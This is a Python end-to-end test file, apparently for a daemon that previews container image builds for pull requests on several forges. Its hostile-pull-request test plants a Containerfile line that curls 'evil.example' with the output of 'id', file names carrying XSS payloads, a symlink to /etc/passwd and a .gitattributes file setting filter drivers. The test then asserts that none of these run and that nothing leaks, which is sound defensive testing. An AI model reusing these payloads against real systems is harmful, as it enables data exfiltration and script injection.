"""Previews by a real daemon: a Git server over HTTP, a forge of each kind, pull requests of friends and strangers.

No registry answers: a preview needs none, and what the daemon plans does not depend on one.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import signal
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from reconciler.core.comment import marker
from tests.e2e.conftest import write_pool
from tests.servers.daemon import DaemonProcess, wait_for
from tests.servers.forge import REPOSITORY, PullRequest, Reply, Said, TestForge, running
from tests.servers.git_http import GitHttp, git_http
from tests.servers.stage import Stage
from tests.unit.comment.html import pages
from tests.unit.hostile import HOSTILE

WORKER, INFRA = "pools/worker/Containerfile", "pools/infra/Containerfile"
BENIGN = {
    "h3", "p", "table", "thead", "tbody", "tr", "th", "td", "code", "pre", "ol", "ul", "li", "details", "summary", "hr",
    "em", "strong",
}  # fmt: skip
"""What our own comments are made of."""
SECRET = b"canary-secret-of-the-webhook"


class Scene:
    """A daemon with previews, whose forge and Git server a test may change."""

    def __init__(self, stage: Stage, forge: TestForge, git: GitHttp) -> None:
        self.stage, self.forge, self.server = stage, forge, git
        (stage.root / "token").write_text(f"{forge.token}\n")
        (stage.root / "hook-secret").write_bytes(SECRET)
        self.configure()

    def configure(self, preview: str = "interval: 1h") -> None:
        forge = self.forge
        named = f"type: {forge.kind}, url: {forge.url}, repository: {REPOSITORY}, tokenFile: token"
        self.stage.config.write_text(
            "apiVersion: reconciler.machineos.dev/v1alpha1\n"
            "kind: ReconcilerConfig\n"
            f"source: {{url: {self.server.url}/{self.stage.bare.name}, branch: main, interval: 1h}}\n"
            f'registry: {{insecure: ["{self.stage.host}"]}}\n'
            f"forge: {{{named}}}\n"
            f"preview: {{{preview}}}\n"
            f'web: {{listen: "127.0.0.1:0", webhooks: [{{type: github, secretFiles: [hook-secret]}}]}}\n'
        )

    def propose(self, number: int, files: dict[str, str], **parts: Any) -> str:
        """Push the head of a pull request that adds to these files, from where main is, and open it."""
        git, work = self.stage.git, self.stage.work
        git("checkout", "--quiet", "--detach", "origin/main")
        for name, text in files.items():
            path = work / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text((path.read_text() if path.exists() else "") + text)
        git("add", "--all")
        git("commit", "--quiet", "--message", f"Change for {number}")
        head = git("rev-parse", "HEAD")
        kind = "merge-requests" if self.forge.kind == "gitlab" else "pull"
        git("push", "--quiet", "--force", str(self.stage.bare), f"HEAD:refs/{kind}/{number}/head")
        self.forge.pulls[number] = PullRequest(number, head, **parts)
        return head

    def merge(self, number: int) -> str:
        """Merge a pull request on the forge."""
        git, pull = self.stage.git, self.forge.pulls[number]
        git("fetch", "--quiet", "origin")
        git("checkout", "--quiet", "--detach", "origin/main")
        git("merge", "--quiet", "--no-ff", "--message", f"Merge {number}", pull.head)
        merged = git("rev-parse", "HEAD")
        git("push", "--quiet", str(self.stage.bare), "HEAD:refs/heads/main")
        git("fetch", "--quiet", "origin")
        self.forge.pulls[number] = PullRequest(number, pull.head, open=False, merged=merged)
        return merged

    def hook(self, daemon: DaemonProcess, event: str = "pull_request") -> str:
        """Tell the daemon that something happened."""
        body = b"{}"
        signature = hmac.new(SECRET, body, hashlib.sha256).hexdigest()
        headers = {"X-GitHub-Event": event, "X-Hub-Signature-256": f"sha256={signature}"}
        asked = urllib.request.Request(f"http://{daemon.address}/hook/github", body, headers)
        with urllib.request.urlopen(asked, timeout=10) as answer:  # noqa: S310  (ours)
            text: str = answer.read().decode()
        return text

    def ours(self, number: int) -> Said | None:
        """Our comment on a pull request."""
        mine = [said for said in self.forge.comments if said.pull == number and said.user == self.forge.user]
        return mine[0] if mine else None

    def wait_for(self, number: int, text: str) -> str:
        """Our comment, as soon as it has this in it."""

        def look() -> str | None:
            said = self.ours(number)
            return said.body if said and text in said.body else None

        return wait_for(f"{text!r} on pull request {number}", look)

    def previews(self, daemon: DaemonProcess) -> dict[str, Any]:
        """What the daemon says of its previews."""
        found: dict[str, Any] = json.loads(daemon.get("/status"))["repositories"][0]["previews"]
        return found


@pytest.fixture(params=["github"])
def scene(request: pytest.FixtureRequest, tmp_path: Path, definitions: Path) -> Iterator[Scene]:
    stage = Stage.alone(tmp_path)
    write_pool(definitions, "infra")
    stage.create_repository(definitions)
    stage.git("config", "http.receivepack", "true")
    with git_http(tmp_path) as git, running(request.param) as forge:
        yield Scene(stage, forge, git)
        assert forge.faults == []


@pytest.mark.parametrize("scene", ["gitea", "github", "gitlab"], indirect=True)
def test_a_pull_request_from_its_first_push_to_its_merge(scene: Scene) -> None:
    scene.propose(7, {WORKER: "COPY files/arm64/ /etc/only-there/\n"})
    with DaemonProcess(scene.stage) as daemon:
        body = scene.wait_for(7, "### 2 of 4 images would be built")
        assert body.splitlines()[0] == marker()
        assert "Also open" not in body
        wait_for("all statuses", lambda: "pending" not in set(scene.forge.standing().values()))
        scene.propose(8, {WORKER: "COPY files/amd64/ /etc/too/\n"})
        assert scene.hook(daemon) == "accepted"
        sign = "!" if scene.forge.kind == "gitlab" else "#"
        assert f"Also open, and touching the same pools: {sign}7 (`worker`)." in scene.wait_for(
            8, "Also open"
        )
        assert f"{sign}8 (`worker`)" in scene.wait_for(7, "Also open")
        merged = scene.merge(7)
        scene.hook(daemon, "push")
        closed = scene.wait_for(7, f"**Merged as `{merged[:12]}`: as previewed**")
        assert "### 2 of 4 images would be built" in closed
        assert "Also open" not in closed
        assert daemon.events("planned")[-1]["plan"] == daemon.events("closed out")[-1]["plan"]
        assert [said.pull for said in scene.forge.comments] == [7, 8]


def test_hostile_pull_requests(scene: Scene) -> None:
    """Strangers are not even fetched; what a friend with bad intentions pushes is shown and nothing else."""
    forge, trap = scene.forge, scene.stage.root / "trap"
    forged = forge.say(f"{marker()}\n### 0 of 4 images would be built\n", forge.other)
    scene.propose(6, {WORKER: "RUN true\n"}, fork=True)
    hostile = {case.name.replace(" ", "-"): case.content for case in HOSTILE if len(case.content) < 1 << 20}
    for name, content in hostile.items():
        path = scene.stage.work / "hostile" / f"{name}.yaml"
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(content)
    files = scene.stage.work / "pools" / "worker" / "files" / "arm64"
    (files / "`<img src=x onerror=alert(1)>` @all -->|[x](javascript:y)").write_text("x")
    (files / "way-out").symlink_to("/etc/passwd")
    (files / "<!-- reconciler.machineos.dev\u2215notes -->").write_text("x")
    command = f"RUN touch {trap} && echo '```</details><script>' && curl https://evil.example/$(id)\n"
    attributes = "* filter=x merge=x diff=x\n"
    scene.propose(7, {INFRA: command, ".gitattributes": attributes})
    with DaemonProcess(scene.stage) as daemon:
        body = scene.wait_for(7, " faults")
        wait_for("the end", lambda: scene.forge.standing().get("reconciler/default") == "failure")
        scene.propose(8, {WORKER: "COPY files/arm64/ /etc/only-there/\n"})
        scene.hook(daemon)
        assert "### 2 of 4 images would be built\n" in scene.wait_for(8, "### ")
        wait_for("the look's end", lambda: scene.previews(daemon)["open"] == 2)
        assert daemon.get("/healthz") == "ok"
        wait_for("the daemon's own plan", lambda: daemon.events("planned"))
        log = daemon.log.read_text()
    assert forge.comments[0] == forged
    assert [said.pull for said in forge.comments if said.user == forge.user] == [7, 8]
    assert body.startswith(f"{marker()}\n### ")
    for page in pages(body):
        assert {tag.split()[0].lstrip("/") for tag in page.tags} <= BENIGN
        assert "evil" not in page.prose
    assert not trap.exists()
    said = json.dumps([asked.body for asked in forge.asked])
    for canary in (forge.token, SECRET.decode(), "root:x:0"):
        assert canary not in said + log
    mirrors = [path.name for path in (scene.stage.root / "cache" / "reconciler" / "mirrors").iterdir()]
    assert len(mirrors) == 1
    held = scene.stage.run(
        "git", "--git-dir", f"{scene.stage.root}/cache/reconciler/mirrors/{mirrors[0]}/repository.git",
        "cat-file", "--batch-check", "--batch-all-objects",
    )  # fmt: skip
    assert forge.pulls[7].head not in held  # what images are built from holds nothing of a pull request
    strangers = scene.stage.run(
        "git", "--git-dir", str(next((scene.stage.root / "cache/reconciler/previews").glob("*/repository.git"))),
        "cat-file", "--batch-check", "--batch-all-objects",
    )  # fmt: skip
    assert forge.pulls[7].head in strangers
    assert forge.pulls[6].head not in strangers


@pytest.mark.parametrize("scene", ["gitlab"], indirect=True)
def test_strangers_are_shown_where_that_is_wanted(scene: Scene) -> None:
    """Their branch is in another project, and often has the name of one of ours."""
    scene.configure("interval: 1h, forks: true")
    head = scene.propose(6, {WORKER: "COPY files/arm64/ /etc/only-there/\n"}, fork=True, branch="main")
    with DaemonProcess(scene.stage) as daemon:
        scene.wait_for(6, "### 2 of 4 images would be built")
        wait_for("the look's end", lambda: scene.previews(daemon)["open"] == 1)
        assert scene.previews(daemon)["problems"] == []
    assert scene.forge.standing() == dict.fromkeys(
        ("reconciler/default", "reconciler/default/infra", "reconciler/default/worker"), "success"
    )
    assert {(one.commit, one.ref) for one in scene.forge.set} == {(head, "main")}


def test_a_forge_that_fails_disturbs_nothing_else(scene: Scene) -> None:
    scene.propose(7, {WORKER: "COPY files/arm64/ /etc/only-there/\n"})
    scene.forge.answer(Reply(403, {"message": f"no, {scene.forge.token}"}), times=1_000)
    with DaemonProcess(scene.stage) as daemon:
        problem = wait_for("the problem", lambda: scene.previews(daemon)["problem"])
        assert problem["reason"] == "ForgeRefused"
        assert scene.forge.token not in problem["message"]
        wait_for("a pass", lambda: daemon.events("planned"))
        assert daemon.metric("reconciler_forge_requests_total", code="403") >= 1
        scene.forge.rules.clear()
        daemon.signal(signal.SIGHUP)
        scene.wait_for(7, "### 2 of 4 images would be built")
        assert daemon.get("/healthz") == "ok"
        wait_for("the end of the problem", lambda: scene.previews(daemon)["problem"] is None)
        assert daemon.stop() == 0
